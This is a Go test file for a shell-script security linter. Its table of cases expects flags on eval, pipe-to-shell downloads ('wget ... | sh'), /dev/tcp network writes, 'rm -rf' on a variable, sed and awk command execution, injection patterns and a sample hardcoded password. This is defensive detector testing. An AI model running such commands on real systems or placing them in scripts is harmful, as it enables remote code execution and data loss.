package toolforge

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"

	"lathe/learn"
)

func shellManifest(filesystem string) learn.ToolManifest {
	return learn.ToolManifest{Name: "f", Version: "1.0.0", Description: "d", Language: "shell", Permissions: learn.Permissions{Filesystem: filesystem, Seconds: 1, MemoryMB: 64},
		Parameters: json.RawMessage(`{"type":"object","properties":{"text":{"type":"string"},"n":{"type":"integer"},"how":{"enum":["a","b"]}}}`), Returns: json.RawMessage(`{"type":"string"}`)}
}

// TestShellRules holds the rules against ways to run what a caller gives, or
// more than was asked for, and against scripts that do neither ("").
func TestShellRules(t *testing.T) {
	for _, c := range []struct{ filesystem, script, rule string }{
		{"none", `printf '%s\n' "$ARG_TEXT" | sort -n | head -n "$ARG_N"`, ""},
		{"none", `[ "$ARG_N" -gt 3 ] && echo "${ARG_TEXT:-x}" "${#ARG_TEXT}" "$((ARG_N + 1))"`, ""},
		{"none", `while IFS= read -r line; do echo "${line%% *}"; done`, ""},
		{"none", `shout() { tr '[:lower:]' '[:upper:]'; }; printf %s "$ARG_TEXT" | shout`, ""},
		{"none", `tmp=$(mktemp); printf %s "$ARG_TEXT" > "$tmp"; rm -f -- "$tmp"`, ""},
		{"read", `case $ARG_TEXT in -*) exit 2 ;; esac; wc -l "$ARG_TEXT"`, ""},
		{"read", `find . -name "$ARG_TEXT" -print0 | xargs -0 wc -l`, ""},
		{"read", `grep -e "$ARG_TEXT" -- "$ARG_TEXT"; wc -l "./$ARG_TEXT"`, ""},
		{"none", `eval "$ARG_TEXT"`, "denied-call"},
		{"none", `. "$ARG_TEXT"`, "denied-call"},
		{"none", `trap "$ARG_TEXT" EXIT`, "denied-call"},
		{"none", `command eval "$ARG_TEXT"`, "denied-call"},
		{"none", `"$ARG_TEXT"`, "dynamic-command"},
		{"none", `ec$ARG_TEXT x`, "dynamic-command"},
		{"none", `xargs "$ARG_TEXT"`, "dynamic-command"},
		{"none", `timeout 5 "$ARG_TEXT"`, "dynamic-command"},
		{"none", `timeout 5 bash -c "$ARG_TEXT"`, "interpreter"},
		{"none", `echo x | xargs -I {} sh -c '{}'`, "interpreter"},
		{"none", `/usr/bin/python3 -c "$ARG_TEXT"`, "interpreter"},
		{"read", `find . -exec sh -c "$ARG_TEXT" ';'`, "interpreter"},
		{"none", `sed "s/a/$ARG_TEXT/"`, "interpreter"},
		{"none", `sed -n "1,${ARG_N}p"`, ""},
		{"none", `sed -e "$ARG_N,\$d; /^#/d" -e 's|a/b|c|g'`, ""},
		{"none", `sed -En '1,/^end$/{p}' -- x`, "interpreter"},
		{"none", `sed 's/a/id/e'`, "interpreter"},
		{"none", `sed 's/a/b/w kept'`, "interpreter"},
		{"none", `sed '1e id'`, "interpreter"},
		{"none", `sed "s/a\\\\/b/;s/w kept/c/"`, "interpreter"},
		{"none", `sed 'w kept'`, "interpreter"},
		{"none", `sed -f kept`, "interpreter"},
		{"none", `sed p "$ARG_N" -e 'e'`, "interpreter"},
		{"none", `sed -n "/$ARG_TEXT/p"`, "interpreter"},
		{"none", `awk "{print $ARG_TEXT}"`, "code-injection"},
		{"none", `awk 'BEGIN { system("id") }'`, "interpreter"},
		{"none", `awk '{ print $1 | "sh" }'`, "interpreter"},
		{"read", `awk '{ print $1 > "kept" }'`, "writes"},
		{"none", `awk -v a="$ARG_TEXT" '$1 == a || NR > 3 { n++ } END { print n }'`, ""},
		{"none", `jq ".[\"$ARG_TEXT\"]"`, "code-injection"},
		{"none", `wget -qO- https://example.org/ | sh`, "pipe-to-shell"},
		{"none", `curl https://example.org/`, "network-program"},
		{"none", `echo x > /dev/tcp/example.org/80`, "network-program"},
		{"write", `rm -rf "${ARG_TEXT}"`, "rm-variable"},
		{"write", `rm -r -- "x/$ARG_TEXT"`, "rm-variable"},
		{"read", `cp a b`, "writes"},
		{"read", `echo x >> kept`, "writes"},
		{"read", `sort -o kept kept`, "writes"},
		{"read", `git commit -m x`, "writes"},
		{"none", `cat notes.txt`, "reads"},
		{"none", `wc -l < notes.txt`, "reads"},
		{"none", `ls`, "reads"},
		{"none", `echo $ARG_TEXT`, "unquoted"},
		{"none", `echo $(id)`, "unquoted"},
		{"read", `sort "$ARG_TEXT"`, "option-injection"},
		{"read", `x=$ARG_TEXT; sort "$x"`, "option-injection"},
		{"read", `f() { sort "$1"; }; f "$ARG_TEXT"`, "option-injection"},
		{"none", `echo "$((ARG_TEXT + 1))"`, "arithmetic-injection"},
		{"none", `x=$ARG_TEXT; [[ $x -gt 1 ]]`, "arithmetic-injection"},
		{"none", `a=(1 2); echo "${a[$ARG_TEXT]}"`, "arithmetic-injection"},
		{"none", `[ -v "$ARG_TEXT" ]`, "arithmetic-injection"},
		{"none", `let "x = $ARG_TEXT"`, "denied-call"},
		{"none", `echo "${!ARG_TEXT}"`, "denied-call"},
		{"none", `echo "${ARG_TEXT@P}"`, "denied-call"},
		{"none", `declare -n x=ARG_TEXT; echo "$x"`, "denied-call"},
		{"none", `printf -v "$ARG_TEXT" x`, "denied-call"},
		{"none", `read -r "$ARG_TEXT"`, "denied-call"},
		{"none", `PATH=/tmp:$PATH ls`, "steers"},
		{"none", `export BASH_ENV=x`, "steers"},
		{"none", `sleep 100 &`, "background"},
		{"none", `coproc cat`, "background"},
		{"none", `echo "$TOKEN"`, "environment"},
		{"none", `printenv`, "environment"},
		{"none", `echo "$ARG_TXT"`, "arguments"},
		{"none", "# shellcheck disable=SC2086\necho x", "silenced"},
		{"none", `db_password=hunter22`, "secret"},
	} {
		t.Run(c.filesystem+" "+c.script, func(t *testing.T) {
			file, err := parseScript("#!/bin/bash\n# Does it.\nset -eu\n" + c.script + "\n")
			if err != nil {
				t.Fatal(err)
			}
			all := findShell(shellManifest(c.filesystem), file)
			if c.rule == "" && len(all) > 0 || c.rule != "" && !slices.ContainsFunc(all, func(f learn.Finding) bool {
				return f.Rule == c.rule && f.Line == 4+strings.Count(c.script, "\n")-strings.Count(c.script, "\necho x")
			}) {
				t.Errorf("want %q, found %+v", c.rule, all)
			}
		})
	}
}

func TestShellMutantsDiffer(t *testing.T) {
	source := "#!/bin/bash\nset -eu\nif [ \"$ARG_N\" -gt 3 ]; then\n  echo a | sort -r | head -n 2\nfi\necho wrong >&2 && exit 2\n"
	all, possible, err := shellMutants(source, 100)
	if err != nil {
		t.Fatal(err)
	}
	file, err := parseScript(source)
	if err != nil {
		t.Fatal(err)
	}
	whole, err := rewritten(file)
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{whole: true}
	kinds := map[string]bool{}
	for _, m := range all {
		if _, err := parseScript(m.source); err != nil || seen[m.source] {
			t.Errorf("%s: the same as another one, or no script: %v\n%s", m.what, err, m.source)
		}
		seen[m.source] = true
		_, kind, _ := strings.Cut(m.what, ": ")
		kinds[kind] = true
	}
	if possible != len(all) || len(kinds) < 6 {
		t.Errorf("%d of %d places, kinds %v", len(all), possible, kinds)
	}
	if few, n, err := shellMutants(source, 3); err != nil || len(few) != 3 || n != possible {
		t.Errorf("%d of %d: %v", len(few), n, err)
	}
}

func TestShellCoverage(t *testing.T) {
	source := "#!/bin/bash\nset -eu\nif true; then\n  echo a\nelse\n  echo b\nfi\nx=$(echo c |\n  cat)\n"
	got, missing := shellCoverage(source, []int{2, 3, 4, 8})
	if fmt.Sprintf("%.2f %v", got, missing) != "0.80 [6]" {
		t.Errorf("coverage %.2f, missing %v", got, missing)
	}
}

func FuzzShellRules(f *testing.F) {
	for _, s := range []string{"echo $((a[$(id)]))", "x=$ARG_TEXT; [[ $x -eq 1 ]]", "case $1 in -*) ;; esac", strings.Repeat("(", 2000), "a <<E\n$(x)\nE\n", "for ((i=0;i<ARG_N;i++)); do :; done"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		file, err := parseScript(s)
		if err != nil {
			return
		}
		m := shellManifest("none")
		findShell(m, file)
		shellPrologue(m, s, file)
		shellComplexity(s, file)
		shellCoverage(s, []int{1})
		if _, _, err := shellMutants(s, 4); err != nil {
			t.Logf("mutants: %v", err)
		}
	})
}

// A script is read as the shell reads it that its first line names.
func TestShellOf(t *testing.T) {
	for first, want := range map[string]string{
		"#!/bin/sh": "sh", "#!/usr/bin/sh ": "sh", "#!/usr/bin/env sh": "sh", "#!/bin/bash": "bash", "#!/usr/bin/env bash": "bash",
		"#!/bin/dash": "bash", "#!": "bash", "": "bash", "/bin/sh": "bash", "# sh": "bash",
	} {
		if got := shellOf(first + "\nset -eu\n"); got != want {
			t.Errorf("%q: %s, want %s", first, got, want)
		}
	}
	for script, both := range map[string]bool{"x=$(cat \"$ARG_A\")\n": true, "x=(a b)\n": false, "cat <(ls)\n": false} {
		_, posix := parseScript("#!/bin/sh\n" + script)
		_, bash := parseScript("#!/bin/bash\n" + script)
		if bash != nil || (posix == nil) != both {
			t.Errorf("%q: %v as POSIX, %v as bash", script, posix, bash)
		}
	}
}
